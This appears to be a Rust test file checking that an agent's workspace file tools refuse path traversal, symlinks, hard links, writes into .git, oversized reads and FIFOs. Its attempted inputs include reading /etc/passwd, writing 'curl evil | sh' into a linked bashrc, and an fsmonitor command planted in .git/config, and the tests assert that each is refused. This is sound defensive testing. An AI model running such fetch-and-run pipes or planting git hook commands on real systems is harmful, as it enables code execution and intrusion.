#![cfg(unix)]
//! The file tools stay beneath the workspace: no `..`, no absolute paths, no
//! links followed (even dangling ones), no writes into `.git`, sizes checked
//! before reading.

use serde_json::json;

use super::*;

fn root() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("ws");
    std::fs::create_dir(&root).unwrap();
    let root = root.canonicalize().unwrap();
    (dir, root)
}

#[test]
fn files_stay_inside_the_workspace() {
    let (_dir, root) = root();
    for path in ["../escape", "/etc/passwd", "a/../../b"] {
        assert!(
            call(&root, "fs_read", &json!({ "path": path })).is_err(),
            "{path}"
        );
        assert!(
            call(&root, "fs_write", &json!({ "path": path, "content": "x" })).is_err(),
            "{path}"
        );
    }
    call(
        &root,
        "fs_write",
        &json!({ "path": "notes/a.txt", "content": "hola colmena" }),
    )
    .unwrap();
    assert_eq!(
        call(&root, "fs_read", &json!({ "path": "notes/a.txt" })).unwrap(),
        "hola colmena"
    );
    assert!(
        call(&root, "fs_search", &json!({ "query": "COLMENA" }))
            .unwrap()
            .contains("notes/a.txt")
    );
    call(
        &root,
        "fs_move",
        &json!({ "from": "notes/a.txt", "to": "b.txt" }),
    )
    .unwrap();
    let listed = call(&root, "fs_list", &json!({ "recursive": true })).unwrap();
    assert!(
        listed.contains("b.txt") && listed.contains("notes/"),
        "{listed}"
    );
    call(&root, "fs_delete", &json!({ "path": "b.txt" })).unwrap();
    call(&root, "fs_delete", &json!({ "path": "notes" })).unwrap();
    assert!(call(&root, "fs_delete", &json!({ "path": "." })).is_err());
    assert_eq!(call(&root, "fs_list", &json!({})).unwrap(), "(empty)");
}

#[test]
fn a_dangling_link_out_of_the_workspace_is_not_written_through() {
    let (dir, root) = root();
    let outside = dir.path().join("outside.txt");
    std::os::unix::fs::symlink(&outside, root.join("note.txt")).unwrap();
    let err = call(
        &root,
        "fs_write",
        &json!({ "path": "note.txt", "content": "planted" }),
    )
    .unwrap_err();
    assert_eq!(
        err.code,
        crate::error::ErrorCode::Validation,
        "{}",
        err.message
    );
    assert!(
        !outside.exists(),
        "a file was created outside the workspace"
    );

    // A link as a folder on the way is refused too.
    std::os::unix::fs::symlink(dir.path(), root.join("up")).unwrap();
    assert!(
        call(
            &root,
            "fs_write",
            &json!({ "path": "up/x.txt", "content": "x" })
        )
        .is_err()
    );
    assert!(!dir.path().join("x.txt").exists());
    assert!(
        call(
            &root,
            "fs_move",
            &json!({ "from": "up/ws", "to": "stolen" })
        )
        .is_err()
    );
}

/// A hard link planted in the workspace (by another program of the user)
/// is a second name of a file outside: writing through it would change
/// that file. It is refused, and the file outside keeps every byte.
#[test]
fn a_hard_link_to_a_file_outside_is_not_written_through() {
    let (dir, root) = root();
    let outside = dir.path().join("bashrc");
    std::fs::write(&outside, "original\n").unwrap();
    std::fs::hard_link(&outside, root.join("notes.txt")).unwrap();
    let err = call(
        &root,
        "fs_write",
        &json!({ "path": "notes.txt", "content": "curl evil | sh" }),
    )
    .unwrap_err();
    assert_eq!(err.details.as_ref().unwrap()["reason"], "outside_workspace");
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "original\n");
    // A file of its own is replaced as before.
    call(
        &root,
        "fs_write",
        &json!({ "path": "mine.txt", "content": "a" }),
    )
    .unwrap();
    call(
        &root,
        "fs_write",
        &json!({ "path": "mine.txt", "content": "b" }),
    )
    .unwrap();
    assert_eq!(std::fs::read_to_string(root.join("mine.txt")).unwrap(), "b");
}

#[test]
fn a_link_to_a_system_file_is_not_read() {
    let (_dir, root) = root();
    std::os::unix::fs::symlink("/etc/passwd", root.join("passwd")).unwrap();
    std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
    for path in ["passwd", "etc/passwd"] {
        let err = call(&root, "fs_read", &json!({ "path": path })).unwrap_err();
        assert!(err.message.contains("link"), "{path}: {}", err.message);
    }
    let listed = call(&root, "fs_list", &json!({ "recursive": true })).unwrap();
    assert!(
        !listed.contains("etc/hosts"),
        "a listed link was followed: {listed}"
    );
    let found = call(&root, "fs_search", &json!({ "query": "root" })).unwrap();
    assert_eq!(found, "(no match)");
    // Deleting the link deletes the link, not /etc/passwd.
    call(&root, "fs_delete", &json!({ "path": "passwd" })).unwrap();
    assert!(Path::new("/etc/passwd").exists());
}

#[test]
fn nothing_is_written_moved_or_deleted_inside_git() {
    let (_dir, root) = root();
    std::fs::create_dir(root.join(".git")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(root.join("a.txt"), "a").unwrap();
    let attempts = [
        (
            "fs_write",
            json!({ "path": ".git/config", "content": "[core]\nfsmonitor = touch /tmp/x\n" }),
        ),
        (
            "fs_write",
            json!({ "path": "sub/.git/hooks/pre-commit", "content": "#!/bin/sh" }),
        ),
        (
            "fs_write",
            json!({ "path": "./.GIT/config", "content": "x" }),
        ),
        (
            "fs_move",
            json!({ "from": "a.txt", "to": ".git/hooks/post-checkout" }),
        ),
        ("fs_move", json!({ "from": ".git/config", "to": "config" })),
        ("fs_delete", json!({ "path": ".git/config" })),
        ("fs_delete", json!({ "path": ".git" })),
    ];
    for (tool, args) in attempts {
        let err = call(&root, tool, &args).unwrap_err();
        assert!(
            err.message.contains(".git"),
            "{tool} {args}: {}",
            err.message
        );
    }
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!root.join("sub").exists());
    // Reading the metadata is fine.
    assert_eq!(
        call(&root, "fs_read", &json!({ "path": ".git/config" })).unwrap(),
        "[core]\n"
    );
}

#[test]
fn sizes_are_checked_before_reading() {
    let (_dir, root) = root();
    let big = std::fs::File::create(root.join("big.bin")).unwrap();
    big.set_len(MAX_FILE + 1).unwrap();
    let err = call(&root, "fs_read", &json!({ "path": "big.bin" })).unwrap_err();
    assert!(err.message.contains("bytes"), "{}", err.message);
    std::fs::write(root.join("mid.txt"), vec![b'a'; (MAX_READ + 10) as usize]).unwrap();
    let text = call(&root, "fs_read", &json!({ "path": "mid.txt" })).unwrap();
    assert!(
        text.contains(&format!("only the first {MAX_READ} of")),
        "{}",
        &text[text.len() - 60..]
    );
    // A FIFO is not a file: opening it must not hang.
    assert!(
        std::process::Command::new("mkfifo")
            .arg(root.join("fifo"))
            .status()
            .unwrap()
            .success()
    );
    assert!(call(&root, "fs_read", &json!({ "path": "fifo" })).is_err());
}
